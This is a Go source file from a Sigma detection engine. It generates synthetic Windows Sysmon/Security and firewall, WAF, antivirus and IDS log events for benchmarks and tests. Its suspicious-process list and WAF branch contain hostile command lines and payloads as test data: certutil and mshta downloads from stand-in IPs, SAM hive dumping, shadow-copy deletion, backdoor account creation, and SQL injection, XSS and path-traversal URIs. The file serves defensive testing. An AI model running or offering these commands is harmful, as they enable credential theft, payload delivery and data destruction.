package sigma

import (
	"fmt"
	"math/rand/v2"
	"strings"
)

// eventGen builds a deterministic, realistic mix of events for benchmarks
// and index-soundness tests: Sysmon and Security/PowerShell Windows events
// as Windows-JSON (Sigma field names), and firewall, WAF, web, antivirus and
// IDS events as flat ECS maps, the way MCPSoc's parsers emit them.
//
// Value cardinality follows real logs: images (with their description,
// product, company and original file name), users, hosts and working
// directories are drawn from a few hundred values with a skewed (Zipf)
// distribution, while command lines, hashes, GUIDs and temporary file names
// are mostly unique. A cache of scan results therefore sees the repetition
// real logs have, not that of a replayed handful of values.
type eventGen struct {
	r      *rand.Rand
	procZ  *rand.Zipf
	userZ  *rand.Zipf
	hostZ  *rand.Zipf
	serial int
}

func newEventGen(seed uint64) *eventGen {
	r := rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15))
	return &eventGen{
		r:     r,
		procZ: rand.NewZipf(r, 1.1, 2, uint64(len(genProcs)-1)),
		userZ: rand.NewZipf(r, 1.1, 2, uint64(len(genUsers)-1)),
		hostZ: rand.NewZipf(r, 1.05, 2, uint64(len(genHosts)-1)),
	}
}

// proc draws a process image and its version information.
func (g *eventGen) proc() genProc { return genProcs[g.procZ.Uint64()] }

// user draws an account name (without domain).
func (g *eventGen) user() string { return genUsers[g.userZ.Uint64()] }

// host draws a computer name.
func (g *eventGen) host() string { return genHosts[g.hostZ.Uint64()] }

func (g *eventGen) pick(xs []string) string { return xs[g.r.IntN(len(xs))] }

type genProc struct{ image, desc, product, company, orig string }

const genSysDir = `C:\Windows\System32\`

var (
	genDomains = []string{"www.microsoft.com", "login.microsoftonline.com", "update.googleapis.com", "github.com", "cdn.jsdelivr.net", "intranet.corp.example", "files.corp.example", "api.slack.com"}
	genBenign  = []genProc{
		{genSysDir + "svchost.exe", "Host Process for Windows Services", "Microsoft® Windows® Operating System", "Microsoft Corporation", "svchost.exe"},
		{genSysDir + "conhost.exe", "Console Window Host", "Microsoft® Windows® Operating System", "Microsoft Corporation", "CONHOST.EXE"},
		{genSysDir + "RuntimeBroker.exe", "Runtime Broker", "Microsoft® Windows® Operating System", "Microsoft Corporation", "RuntimeBroker.exe"},
		{genSysDir + "taskhostw.exe", "Host Process for Windows Tasks", "Microsoft® Windows® Operating System", "Microsoft Corporation", "taskhostw.exe"},
		{genSysDir + "backgroundTaskHost.exe", "Background Task Host", "Microsoft® Windows® Operating System", "Microsoft Corporation", "backgroundTaskHost.exe"},
		{genSysDir + "SearchProtocolHost.exe", "Microsoft Windows Search Protocol Host", "Windows® Search", "Microsoft Corporation", "SearchProtocolHost.exe"},
		{genSysDir + "dllhost.exe", "COM Surrogate", "Microsoft® Windows® Operating System", "Microsoft Corporation", "dllhost.exe"},
		{`C:\Program Files\Google\Chrome\Application\chrome.exe`, "Google Chrome", "Google Chrome", "Google LLC", "chrome.exe"},
		{`C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe`, "Microsoft Edge", "Microsoft Edge", "Microsoft Corporation", "msedge.exe"},
		{`C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE`, "Microsoft Outlook", "Microsoft Outlook", "Microsoft Corporation", "Outlook.exe"},
		{`C:\Program Files\Git\cmd\git.exe`, "Git for Windows", "Git", "The Git Development Community", "git.exe"},
		{`C:\Program Files\nodejs\node.exe`, "Node.js JavaScript Runtime", "Node.js", "Node.js", "node.exe"},
		{`C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MsMpEng.exe`, "Antimalware Service Executable", "Microsoft® Windows® Operating System", "Microsoft Corporation", "MsMpEng.exe"},
		{genSysDir + "WindowsPowerShell\\v1.0\\powershell.exe", "Windows PowerShell", "Microsoft® Windows® Operating System", "Microsoft Corporation", "PowerShell.EXE"},
		{genSysDir + "cmd.exe", "Windows Command Processor", "Microsoft® Windows® Operating System", "Microsoft Corporation", "Cmd.Exe"},
		{genSysDir + "wbem\\WmiPrvSE.exe", "WMI Provider Host", "Microsoft® Windows® Operating System", "Microsoft Corporation", "Wmiprvse.exe"},
	}
	// genProcs is the process population, most frequent first: the
	// common processes above, more Windows binaries, installed software,
	// and per-user installs (one image per user and application).
	genProcs = func() []genProc {
		out := append([]genProc(nil), genBenign...)
		const winProduct, ms = "Microsoft® Windows® Operating System", "Microsoft Corporation"
		for _, p := range [][2]string{
			{"lsass.exe", "Local Security Authority Process"}, {"services.exe", "Services and Controller app"},
			{"explorer.exe", "Windows Explorer"}, {"winlogon.exe", "Windows Logon Application"},
			{"sihost.exe", "Shell Infrastructure Host"}, {"ctfmon.exe", "CTF Loader"},
			{"smartscreen.exe", "Windows Defender SmartScreen"}, {"spoolsv.exe", "Spooler SubSystem App"},
			{"WUDFHost.exe", "Windows Driver Foundation - User-mode Driver Framework Host Process"},
			{"audiodg.exe", "Windows Audio Device Graph Isolation"}, {"fontdrvhost.exe", "Usermode Font Driver Host"},
			{"dwm.exe", "Desktop Window Manager"}, {"SearchIndexer.exe", "Microsoft Windows Search Indexer"},
			{"SearchFilterHost.exe", "Microsoft Windows Search Filter Host"}, {"MoUsoCoreWorker.exe", "MoUSO Core Worker Process"},
			{"TiWorker.exe", "Windows Modules Installer Worker"}, {"TrustedInstaller.exe", "Windows Modules Installer"},
			{"wermgr.exe", "Windows Problem Reporting"}, {"WerFault.exe", "Windows Problem Reporting"},
			{"consent.exe", "Consent UI for administrative applications"}, {"msiexec.exe", "Windows® installer"},
			{"gpupdate.exe", "Microsoft® Windows Group Policy Update Utility"}, {"rundll32.exe", "Windows host process (Rundll32)"},
			{"regsvr32.exe", "Microsoft(C) Register Server"}, {"schtasks.exe", "Task Scheduler Configuration Tool"},
			{"sc.exe", "Service Control Manager Configuration Tool"}, {"net.exe", "Net Command"}, {"net1.exe", "Net Command"},
			{"ipconfig.exe", "IP Configuration Utility"}, {"PING.EXE", "TCP/IP Ping Command"},
			{"whoami.exe", "whoami - displays logged on user information"}, {"tasklist.exe", "Lists the current running tasks."},
			{"findstr.exe", "Find String (QGREP) Utility"}, {"reg.exe", "Registry Console Tool"},
			{"certutil.exe", "CertUtil.exe"}, {"wevtutil.exe", "Eventing Command Line Utility"},
			{"mmc.exe", "Microsoft Management Console"}, {"notepad.exe", "Notepad"}, {"mstsc.exe", "Remote Desktop Connection"},
			{"CompPkgSrv.exe", "Component Package Support Server"}, {"UserOOBEBroker.exe", "User OOBE Broker"},
			{"ApplicationFrameHost.exe", "Application Frame Host"}, {"LogonUI.exe", "Windows Logon User Interface Host"},
			{"DeviceCensus.exe", "Device Census"}, {"CompatTelRunner.exe", "Microsoft Compatibility Telemetry"},
			{"sppsvc.exe", "Microsoft Software Protection Platform Service"}, {"VSSVC.exe", "Microsoft® Volume Shadow Copy Service"},
			{"wsqmcons.exe", "Windows SQM Consolidator"}, {"taskmgr.exe", "Task Manager"}, {"cleanmgr.exe", "Disk Space Cleanup Manager for Windows"},
		} {
			out = append(out, genProc{genSysDir + p[0], p[1], winProduct, ms, p[0]})
		}
		for _, p := range []genProc{
			{`C:\Program Files\Mozilla Firefox\firefox.exe`, "Firefox", "Firefox", "Mozilla Corporation", "firefox.exe"},
			{`C:\Program Files\Adobe\Acrobat DC\Acrobat\Acrobat.exe`, "Adobe Acrobat", "Adobe Acrobat", "Adobe Inc.", "Acrobat.exe"},
			{`C:\Program Files\Common Files\Adobe\ARM\1.0\AdobeARM.exe`, "Adobe Reader and Acrobat Manager", "Adobe Reader and Acrobat Manager", "Adobe Inc.", "AdobeARM.exe"},
			{`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, "Microsoft Word", "Microsoft Office", "Microsoft Corporation", "WinWord.exe"},
			{`C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`, "Microsoft Excel", "Microsoft Office", "Microsoft Corporation", "Excel.exe"},
			{`C:\Program Files\Microsoft Office\root\Office16\POWERPNT.EXE`, "Microsoft PowerPoint", "Microsoft Office", "Microsoft Corporation", "POWERPNT.EXE"},
			{`C:\Program Files\Common Files\microsoft shared\ClickToRun\OfficeClickToRun.exe`, "Microsoft Office Click-to-Run", "Microsoft Office", "Microsoft Corporation", "OfficeClickToRun.exe"},
			{`C:\Program Files\7-Zip\7z.exe`, "7-Zip Console", "7-Zip", "Igor Pavlov", "7z.exe"},
			{`C:\Program Files\Python312\python.exe`, "Python", "Python", "Python Software Foundation", "python.exe"},
			{`C:\Program Files\Docker\Docker\resources\com.docker.backend.exe`, "Docker Desktop Backend", "Docker Desktop", "Docker Inc.", "com.docker.backend.exe"},
			{`C:\Program Files\VMware\VMware Tools\vmtoolsd.exe`, "VMware Tools Core Service", "VMware Tools", "VMware, Inc.", "vmtoolsd.exe"},
			{`C:\Program Files\Citrix\ICA Client\wfica32.exe`, "Citrix Workspace Engine", "Citrix Workspace", "Citrix Systems, Inc.", "wfica32.exe"},
			{`C:\Program Files\Cisco\Cisco Secure Client\vpnagent.exe`, "Cisco Secure Client - VPN Agent", "Cisco Secure Client", "Cisco Systems, Inc.", "vpnagent.exe"},
			{`C:\Program Files\Intel\Intel(R) Management Engine Components\LMS\LMS.exe`, "Local Manageability Service", "Intel(R) Management Engine Components", "Intel Corporation", "LMS.exe"},
			{`C:\Program Files\NVIDIA Corporation\NvContainer\nvcontainer.exe`, "NVIDIA Container", "NVIDIA Container", "NVIDIA Corporation", "nvcontainer.exe"},
			{`C:\Program Files\Realtek\Audio\HDA\RtkAudUService64.exe`, "Realtek HD Audio Universal Service", "Realtek HD Audio Universal Service", "Realtek Semiconductor", "RtkAudUService64.exe"},
			{`C:\Program Files\JetBrains\IntelliJ IDEA 2024.3\bin\idea64.exe`, "IntelliJ IDEA", "IntelliJ IDEA", "JetBrains s.r.o.", "idea64.exe"},
			{`C:\Program Files\Java\jdk-21\bin\java.exe`, "OpenJDK Platform binary", "OpenJDK Platform 21", "Oracle Corporation", "java.exe"},
			{`C:\Program Files\Microsoft SQL Server\MSSQL16.MSSQLSERVER\MSSQL\Binn\sqlservr.exe`, "SQL Server Windows NT - 64 Bit", "Microsoft SQL Server", "Microsoft Corporation", "sqlservr.exe"},
			{`C:\Program Files\Zoom\bin\Zoom.exe`, "Zoom Meetings", "Zoom Meetings", "Zoom Video Communications, Inc.", "Zoom.exe"},
		} {
			out = append(out, p)
		}
		apps := []struct{ dir, exe, desc, company string }{
			{`AppData\Local\Microsoft\Teams\current`, "Teams.exe", "Microsoft Teams", "Microsoft Corporation"},
			{`AppData\Local\slack\app-4.41.105`, "slack.exe", "Slack", "Slack Technologies, LLC"},
			{`AppData\Local\Programs\Microsoft VS Code`, "Code.exe", "Visual Studio Code", "Microsoft Corporation"},
			{`AppData\Local\Microsoft\OneDrive`, "OneDrive.exe", "Microsoft OneDrive", "Microsoft Corporation"},
			{`AppData\Roaming\Spotify`, "Spotify.exe", "Spotify", "Spotify Ltd"},
			{`AppData\Local\Discord\app-1.0.9170`, "Discord.exe", "Discord", "Discord Inc."},
		}
		for i := 0; i < 48; i++ {
			for _, a := range apps {
				out = append(out, genProc{`C:\Users\` + genUsers[i] + `\` + a.dir + `\` + a.exe, a.desc, a.desc, a.company, a.exe})
			}
		}
		return out
	}()
	genUsers = func() []string {
		first := []string{"alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "mallory", "niaj", "olivia", "peggy", "rupert", "sybil", "trent", "victor", "walter", "yara"}
		last := []string{"smith", "jones", "miller", "davis", "garcia", "wilson", "moore", "taylor", "thomas", "white", "martin", "clark", "lewis", "walker", "young"}
		out := []string{"svc_backup", "svc_sql", "Administrator", "SYSTEM"}
		for i := range len(first) * len(last) {
			out = append(out, first[i%len(first)]+"."+last[i/len(first)])
		}
		return out
	}()
	genHosts = func() []string {
		out := []string{"DC01.corp.example", "SRV-FILE01.corp.example", "SRV-SQL02.corp.example"}
		for i := range 200 {
			out = append(out, fmt.Sprintf("WS-%04d.corp.example", 100+i*37%9000))
		}
		return out
	}()
	genSuspicious = []struct{ image, cmd, parent string }{
		{genSysDir + `WindowsPowerShell\v1.0\powershell.exe`, `powershell.exe -NoP -W Hidden -Enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA`, `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`},
		{genSysDir + "certutil.exe", `certutil.exe -urlcache -split -f http://203.0.113.7/p.exe C:\Users\Public\p.exe`, genSysDir + "cmd.exe"},
		{genSysDir + "rundll32.exe", `rundll32.exe C:\Users\bob\AppData\Local\Temp\x.dll,DllRegisterServer`, genSysDir + `WindowsPowerShell\v1.0\powershell.exe`},
		{genSysDir + "vssadmin.exe", `vssadmin.exe delete shadows /all /quiet`, genSysDir + "cmd.exe"},
		{genSysDir + "reg.exe", `reg.exe save HKLM\SAM C:\Windows\Temp\sam.save`, genSysDir + "cmd.exe"},
		{genSysDir + "schtasks.exe", `schtasks /create /sc minute /mo 5 /tn Updater /tr C:\Users\Public\u.exe`, genSysDir + "cmd.exe"},
		{genSysDir + "whoami.exe", `whoami /priv`, genSysDir + "cmd.exe"},
		{genSysDir + "net.exe", `net user backdoor P@ssw0rd! /add`, genSysDir + "cmd.exe"},
		{genSysDir + "wbem\\WMIC.exe", `wmic process call create "cmd.exe /c calc.exe"`, `C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE`},
		{genSysDir + "mshta.exe", `mshta.exe vbscript:Close(Execute("GetObject(""script:http://198.51.100.4/a.sct"")"))`, `C:\Windows\explorer.exe`},
	}
)

func (g *eventGen) guid() string {
	return fmt.Sprintf("{%08x-%04x-%04x-%04x-%012x}", g.r.Uint32(), g.r.Uint32()&0xffff, g.r.Uint32()&0xffff, g.r.Uint32()&0xffff, g.r.Uint64()&0xffffffffffff)
}

func (g *eventGen) hex(n int) string {
	const digits = "0123456789ABCDEF"
	b := make([]byte, n)
	for i := range b {
		b[i] = digits[g.r.IntN(16)]
	}
	return string(b)
}

func (g *eventGen) ip(private bool) string {
	if private {
		return fmt.Sprintf("10.%d.%d.%d", g.r.IntN(32), g.r.IntN(256), 1+g.r.IntN(254))
	}
	return fmt.Sprintf("%d.%d.%d.%d", 23+g.r.IntN(180), g.r.IntN(256), g.r.IntN(256), 1+g.r.IntN(254))
}

func (g *eventGen) userDir() string { return `C:\Users\` + g.user() }

func (g *eventGen) benignCmd(image string) string {
	base := image[strings.LastIndexByte(image, '\\')+1:]
	switch strings.ToLower(base) {
	case "svchost.exe":
		return image + " -k " + g.pick([]string{"netsvcs -p -s Schedule", "LocalServiceNetworkRestricted -p", "DcomLaunch -p", "UnistackSvcGroup", "wsappx -p -s AppXSvc"})
	case "chrome.exe", "msedge.exe":
		return `"` + image + `" --type=renderer --lang=en-US --renderer-client-id=` + fmt.Sprint(g.r.IntN(500)) + ` --field-trial-handle=` + g.hex(8) + ` /prefetch:1`
	case "git.exe":
		return `git.exe ` + g.pick([]string{"status --porcelain", "fetch origin", "log --oneline -n 20", "diff HEAD~1"})
	case "node.exe":
		return `node.exe ` + g.userDir() + `\src\app\node_modules\.bin\` + g.pick([]string{"tsc", "eslint", "jest"}) + " --watch"
	case "powershell.exe":
		return `powershell.exe -NoProfile -File C:\ProgramData\Scripts\inventory.ps1 -Computer ` + g.host()
	case "cmd.exe":
		return `C:\Windows\system32\cmd.exe /c "` + g.pick([]string{"echo %PATH%", "dir " + g.userDir() + `\Documents`, "type nul > lock.tmp", "npm run build"}) + `"`
	case "conhost.exe":
		return `\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1`
	}
	// Other processes: a third start with the bare image; the others
	// carry arguments that rarely repeat (documents, sessions, ids).
	switch g.r.IntN(6) {
	case 0, 1:
		return `"` + image + `"`
	case 2:
		return `"` + image + `" "` + g.userDir() + `\Documents\` + g.pick([]string{"report", "budget", "notes", "minutes", "plan"}) + "-" + g.hex(6) + g.pick([]string{".docx", ".xlsx", ".pdf", ".txt"}) + `"`
	case 3:
		return `"` + image + `" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US --service-sandbox-type=none --mojo-platform-channel-handle=` + fmt.Sprint(1000+g.r.IntN(9000)) + ` --field-trial-handle=` + g.hex(8) + `,i,` + g.hex(16)
	case 4:
		return `"` + image + `" /processid:` + g.guid() + ` -Embedding`
	}
	return `"` + image + `" -ServerName:` + g.pick([]string{"App.AppXmtcan0h2tfbfy7k9kn8hbxb6dmzz1zh0.mca", "CortanaUI.AppXy7vb4pc2dr3kc93kfc509b1d0arkfb2x.mca", "Windows.Internal.WaaSMedicAgent"}) + " " + g.hex(12)
}

func (g *eventGen) base(id int64, channel string) map[string]any {
	m := map[string]any{
		"EventID":     id,
		"Channel":     channel,
		"Computer":    g.host(),
		"UtcTime":     fmt.Sprintf("2026-11-21 %02d:%02d:%02d.%03d", g.r.IntN(24), g.r.IntN(60), g.r.IntN(60), g.r.IntN(1000)),
		"ProcessGuid": g.guid(),
		"ProcessId":   int64(1000 + g.r.IntN(30000)),
	}
	if strings.HasPrefix(channel, "Microsoft-Windows-Sysmon") {
		m["Provider_Name"] = "Microsoft-Windows-Sysmon"
	}
	return m
}

const sysmonChannel = "Microsoft-Windows-Sysmon/Operational"

func (g *eventGen) processCreation() map[string]any {
	m := g.base(1, sysmonChannel)
	b, p := g.proc(), g.proc()
	image, cmd, parent := b.image, g.benignCmd(b.image), p.image
	if g.r.IntN(100) == 0 {
		s := genSuspicious[g.r.IntN(len(genSuspicious))]
		image, cmd, parent = s.image, s.cmd, s.parent
	}
	m["Image"] = image
	m["CommandLine"] = cmd
	m["ParentImage"] = parent
	m["ParentCommandLine"] = g.benignCmd(parent)
	m["Description"] = b.desc
	m["Product"] = b.product
	m["Company"] = b.company
	m["OriginalFileName"] = b.orig
	m["FileVersion"] = "10.0.22621.1 (WinBuild.160101.0800)"
	m["CurrentDirectory"] = g.pick([]string{genSysDir, g.userDir() + `\`, `C:\Windows\`, image[:strings.LastIndexByte(image, '\\')+1]})
	m["User"] = "CORP\\" + g.user()
	m["LogonId"] = "0x" + g.hex(6)
	m["IntegrityLevel"] = g.pick([]string{"Medium", "High", "System"})
	m["Hashes"] = "SHA1=" + g.hex(40) + ",MD5=" + g.hex(32) + ",SHA256=" + g.hex(64) + ",IMPHASH=" + g.hex(32)
	m["ParentProcessGuid"] = g.guid()
	m["ParentProcessId"] = int64(500 + g.r.IntN(20000))
	m["ParentUser"] = "CORP\\" + g.user()
	return m
}

func (g *eventGen) securityProcess() map[string]any {
	m := g.base(4688, "Security")
	pc := g.processCreation()
	m["NewProcessName"] = pc["Image"]
	m["CommandLine"] = pc["CommandLine"]
	m["ParentProcessName"] = pc["ParentImage"]
	m["SubjectUserName"] = g.user()
	m["SubjectDomainName"] = "CORP"
	m["TokenElevationType"] = "%%1936"
	m["MandatoryLabel"] = "S-1-16-8192"
	return m
}

func (g *eventGen) networkConnection() map[string]any {
	m := g.base(3, sysmonChannel)
	m["Image"] = g.proc().image
	m["User"] = "CORP\\" + g.user()
	m["Protocol"] = "tcp"
	m["Initiated"] = "true"
	m["SourceIp"] = g.ip(true)
	m["SourceHostname"] = g.host()
	m["SourcePort"] = int64(49152 + g.r.IntN(16000))
	m["DestinationIp"] = g.ip(g.r.IntN(3) == 0)
	m["DestinationHostname"] = g.pick(genDomains)
	m["DestinationPort"] = int64([]int{443, 443, 443, 80, 445, 53, 3389, 8080}[g.r.IntN(8)])
	m["DestinationIsIpv6"] = "false"
	return m
}

func (g *eventGen) fileEvent() map[string]any {
	m := g.base(11, sysmonChannel)
	m["Image"] = g.proc().image
	m["TargetFilename"] = g.userDir() + g.pick([]string{`\AppData\Local\Temp\`, `\Downloads\`, `\AppData\Roaming\Microsoft\Windows\Recent\`, `\Documents\`}) + g.pick([]string{"report", "setup", "tmp" + g.hex(4), "invoice", "notes"}) + g.pick([]string{".docx", ".tmp", ".lnk", ".exe", ".zip", ".pdf"})
	m["CreationUtcTime"] = m["UtcTime"]
	m["User"] = "CORP\\" + g.user()
	return m
}

func (g *eventGen) registrySet() map[string]any {
	m := g.base(13, sysmonChannel)
	m["EventType"] = "SetValue"
	m["Image"] = g.proc().image
	m["TargetObject"] = g.pick([]string{
		`HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run\OneDrive`,
		`HKU\S-1-5-21-1004336348-1177238915-682003330-1001\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\.docx`,
		`HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\S-1-5-21-1004336348-1177238915-682003330-1001\` + g.hex(6),
		`HKLM\SOFTWARE\Microsoft\Windows Defender\Signature Updates\SignaturesLastUpdated`,
	})
	m["Details"] = g.pick([]string{"DWORD (0x00000001)", `"C:\Program Files\Microsoft OneDrive\OneDrive.exe" /background`, "Binary Data", "QWORD (0x01db3c22-0x5b1f8d40)"})
	return m
}

func (g *eventGen) imageLoad() map[string]any {
	m := g.base(7, sysmonChannel)
	m["Image"] = g.proc().image
	m["ImageLoaded"] = genSysDir + g.pick([]string{"ntdll.dll", "kernel32.dll", "KernelBase.dll", "combase.dll", "bcrypt.dll", "winhttp.dll", "amsi.dll", "clr.dll"})
	m["Signed"] = "true"
	m["Signature"] = "Microsoft Windows"
	m["SignatureStatus"] = "Valid"
	m["Hashes"] = "SHA256=" + g.hex(64)
	return m
}

func (g *eventGen) dnsQuery() map[string]any {
	m := g.base(22, sysmonChannel)
	m["Image"] = g.proc().image
	m["QueryName"] = g.pick(genDomains)
	m["QueryStatus"] = "0"
	m["QueryResults"] = "type:  5 " + g.pick(genDomains) + ";::ffff:" + g.ip(false) + ";"
	return m
}

func (g *eventGen) psScript() map[string]any {
	m := g.base(4104, "Microsoft-Windows-PowerShell/Operational")
	m["ScriptBlockText"] = g.pick([]string{
		"Get-ChildItem -Path C:\\ProgramData\\Scripts -Filter *.log | Remove-Item -Force",
		"$s = Get-Service -Name Spooler; if ($s.Status -ne 'Running') { Start-Service Spooler }",
		"Import-Module ActiveDirectory; Get-ADUser -Filter * -Properties LastLogonDate | Export-Csv users.csv",
		"[System.Net.ServicePointManager]::SecurityProtocol = 'Tls12'; Invoke-RestMethod -Uri https://intranet.corp.example/api/health",
	})
	m["ScriptBlockId"] = g.guid()
	m["Path"] = `C:\ProgramData\Scripts\maint.ps1`
	return m
}

func (g *eventGen) logon() map[string]any {
	m := g.base(4624, "Security")
	m["TargetUserName"] = g.user()
	m["TargetDomainName"] = "CORP"
	m["LogonType"] = int64([]int{2, 3, 3, 3, 10, 5}[g.r.IntN(6)])
	m["IpAddress"] = g.ip(true)
	m["WorkstationName"] = strings.Split(g.host(), ".")[0]
	m["AuthenticationPackageName"] = g.pick([]string{"Kerberos", "NTLM", "Negotiate"})
	m["LogonProcessName"] = "User32"
	return m
}

func (g *eventGen) firewall() map[string]any {
	return map[string]any{
		"event.module": "pfsense", "event.dataset": "pfsense.filterlog", "event.category": "network",
		"event.action": g.pick([]string{"block", "pass", "pass", "pass"}),
		"source.ip":    g.ip(g.r.IntN(2) == 0), "destination.ip": g.ip(g.r.IntN(2) == 0),
		"source.port": int64(1024 + g.r.IntN(60000)), "destination.port": int64([]int{22, 23, 80, 443, 445, 3389, 53, 21}[g.r.IntN(8)]),
		"network.transport": g.pick([]string{"tcp", "udp"}), "observer.ingress.interface.name": "igb0",
		"message": "filterlog: 5,,,1000000103,igb0,match,block,in,4,0x0,,64,0,0,DF,6,tcp,60",
	}
}

func (g *eventGen) waf() map[string]any {
	uri := g.pick([]string{"/index.php?id=1", "/api/v1/items?page=2", "/login", "/wp-login.php", "/search?q=shoes", "/static/app.js", "/.env", "/cgi-bin/test.cgi"})
	if g.r.IntN(50) == 0 {
		uri = g.pick([]string{"/index.php?id=1%27%20UNION%20SELECT%20password%20FROM%20users--", "/?q=<script>alert(1)</script>", "/download?file=../../../../etc/passwd"})
	}
	return map[string]any{
		"event.module": "modsecurity", "event.dataset": "modsec.audit", "event.category": "web",
		"source.ip": g.ip(false), "url.original": uri, "url.path": strings.SplitN(uri, "?", 2)[0],
		"http.request.method":       g.pick([]string{"GET", "GET", "POST"}),
		"user_agent.original":       g.pick([]string{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Safari/537.36", "curl/8.5.0", "python-requests/2.32.3", "Mozilla/5.0 (compatible; Nmap Scripting Engine)"}),
		"http.response.status_code": int64([]int{200, 200, 301, 403, 404}[g.r.IntN(5)]),
		"rule.id":                   fmt.Sprint(920000 + g.r.IntN(30000)), "rule.message": "Inbound Anomaly Score Exceeded",
		"message": "ModSecurity: Access denied with code 403 (phase 2).",
	}
}

func (g *eventGen) antivirus() map[string]any {
	return map[string]any{
		"event.module": "clamav", "event.dataset": "clamav.log", "event.category": "malware",
		"file.path": "/srv/uploads/" + g.hex(8) + g.pick([]string{".pdf", ".zip", ".exe", ".docm"}),
		"rule.name": g.pick([]string{"Win.Test.EICAR_HDB-1", "Doc.Downloader.Emotet-7580152-0", "Win.Trojan.Agent-1234567", "PUA.Win.Packer.Upx-1"}),
		"host.name": "files01", "message": "FOUND",
	}
}

func (g *eventGen) ids() map[string]any {
	return map[string]any{
		"event.module": "suricata", "event.dataset": "suricata.eve", "event.category": "intrusion_detection",
		"source.ip": g.ip(false), "destination.ip": g.ip(true), "destination.port": int64(443),
		"rule.name":     g.pick([]string{"ET SCAN Suspicious inbound to MSSQL port 1433", "ET POLICY curl User-Agent Outbound", "ET INFO Observed DNS Query to .cloud TLD"}),
		"rule.category": "Attempted Information Leak", "event.severity": int64(2), "network.protocol": "tls",
	}
}

// windows returns only Windows events; network only ECS events; mixed both
// (70/30).
func (g *eventGen) windows() map[string]any {
	switch n := g.r.IntN(100); {
	case n < 45:
		return g.processCreation()
	case n < 52:
		return g.securityProcess()
	case n < 64:
		return g.networkConnection()
	case n < 75:
		return g.fileEvent()
	case n < 84:
		return g.registrySet()
	case n < 90:
		return g.imageLoad()
	case n < 94:
		return g.dnsQuery()
	case n < 97:
		return g.psScript()
	default:
		return g.logon()
	}
}

func (g *eventGen) network() map[string]any {
	switch n := g.r.IntN(100); {
	case n < 45:
		return g.firewall()
	case n < 75:
		return g.waf()
	case n < 85:
		return g.antivirus()
	default:
		return g.ids()
	}
}

func (g *eventGen) mixed() map[string]any {
	if g.r.IntN(10) < 7 {
		return g.windows()
	}
	return g.network()
}

func genEvents(n int, seed uint64, kind func(*eventGen) map[string]any) []map[string]any {
	g := newEventGen(seed)
	out := make([]map[string]any, n)
	for i := range out {
		out[i] = kind(g)
	}
	return out
}

// routingFields are the fields the default routing table reads; mixedUnique
// leaves them alone so its events reach the same rules.
var routingFields = map[string]bool{
	"Channel": true, "EventID": true, "Provider_Name": true, "event.module": true,
	"event.dataset": true, "event.category": true, "observer.product": true,
}

// mixedUnique is the adversarial input for caches of scan results: mixed
// events in which every other string value carries, in its middle, a token
// no other event has (its prefix and suffix, where anchored literals are
// looked for, are kept), so no value ever repeats.
func (g *eventGen) mixedUnique() map[string]any {
	m := g.mixed()
	g.serial++
	tok := fmt.Sprintf("~%x~", g.serial)
	for k, v := range m {
		if s, ok := v.(string); ok && !routingFields[k] {
			m[k] = s[:len(s)/2] + tok + s[len(s)/2:]
		}
	}
	return m
}
